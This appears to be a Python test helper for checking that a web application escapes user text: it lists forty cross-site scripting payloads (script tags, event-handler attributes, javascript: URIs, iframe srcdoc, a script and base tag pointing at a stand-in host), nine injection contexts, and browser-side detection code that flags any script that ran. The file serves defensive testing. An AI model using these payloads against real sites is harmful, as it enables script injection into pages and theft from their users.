"""Forty ways in which a text tries to become a script, and how to see that one has.

Each calls `xss()`, or makes an element or an attribute that no page of ours has, as soon as it is
put unescaped into one of `PLACES`.
"""

from typing import Final

PAYLOADS: Final = (
    "<script>xss()</script>",
    "<script src=//x.example></script>",
    "</title><script>xss()</script>",
    "</textarea><script>xss()</script>",
    "</script><script>xss()</script>",
    "--><script>xss()</script>",
    '"><script>xss()</script>',
    "'><script>xss()</script>",
    "<scr<script>ipt>xss()</script>",
    "<img src=x: onerror=xss()>",
    '"><img src=x: onerror=xss()>',
    "<img src=`x:` onerror=xss()>",
    "<IMG SRC=x: oNeRrOr=xss()>",
    "<img/src=x:/onerror=xss()>",
    "<img\tsrc=x:\tonerror=xss()>",
    "<svg/onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<math><mtext><img src=x: onerror=xss()>",
    "<body onload=xss()><input autofocus onfocus=xss()>",
    '" autofocus onfocus=xss() x="',
    "' autofocus onfocus=xss() x='",
    "x onmouseover=xss() y",
    '"onclick="xss()',
    "<details open ontoggle=xss()>",
    "<video src=x: onerror=xss()>",
    "<audio src=x: onerror=xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    '<iframe src="javascript:parent.xss()">',
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<a href=javascript:xss()>x</a>",
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "data:text/html,<script>xss()</script>",
    "<form action=javascript:xss()><button>x",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=9;url=/leave>",
    "<div hx-get=/enter hx-trigger=load>",
    '";xss();//',
)

PLACES: Final = (
    "<p>{}</p>",
    '<input value="{}">',
    "<input value='{}'>",
    "<input value={}>",
    '<a href="{}">x</a>',
    "<textarea>{}</textarea>",
    "<!-- {} -->",
    '<script>var x = "{}"</script>',
    "<title>{}</title>",
)
"""Where a page of anybody's may put a text."""

MARKER: Final = "window.ran = 0; window.xss = () => { window.ran += 1; };"

OFFENCES: Final = r"""
() => {
  const found = window.ran ? [`a script ran, ${window.ran} times`] : [];
  const strange = "iframe, object, embed, base, math, style, video, audio, animate, [http-equiv]";
  const addresses = /^(href|src|action|formaction|data|srcdoc|xlink:href)$/i;
  const acts = /^[\s\x00-\x1f]*(javascript|vbscript|data:text)/i;
  for (const e of document.querySelectorAll("*")) {
    const alarm = (what) => found.push(`${what} ${e.outerHTML.slice(0, 120)}`);
    const unknown = e instanceof HTMLUnknownElement || e.localName.includes("-");
    if (unknown || e.matches(strange)) alarm("element");
    const file = e.getAttribute("src") ?? e.getAttribute("href") ?? "";
    if (e.matches("script, link, img") && !file.startsWith("/static/")) alarm("file");
    for (const { name, value } of e.attributes) {
      if (/^on/i.test(name)) alarm("attribute");
      if (/^hx-/.test(name) && !["hearer", "looker"].includes(e.id)) alarm("htmx");
      if (addresses.test(name) && acts.test(value)) alarm("address");
    }
  }
  return found;
}
"""
"""What a text has made of the page; nothing, when it has stayed a text."""

WORDS: Final = r"""
() => [document.documentElement.textContent, ...[...document.querySelectorAll("*")].flatMap(
  (e) => [...e.attributes].map((a) => a.value))].join("\n").replace(/\s+/g, " ")
"""
"""Everything that the page says, also in attributes, with single blanks."""


def value(field: int, row: int, length: int) -> str:
    """The payload for a row of the field, as one that fits; `//07` at its end names the field."""
    ending = f"//{field:02}"
    fitting = [one for one in PAYLOADS if len(one) + len(ending) <= length]
    own = f"<x{row}>"
    return (fitting[row] if row < len(fitting) else own) + ending
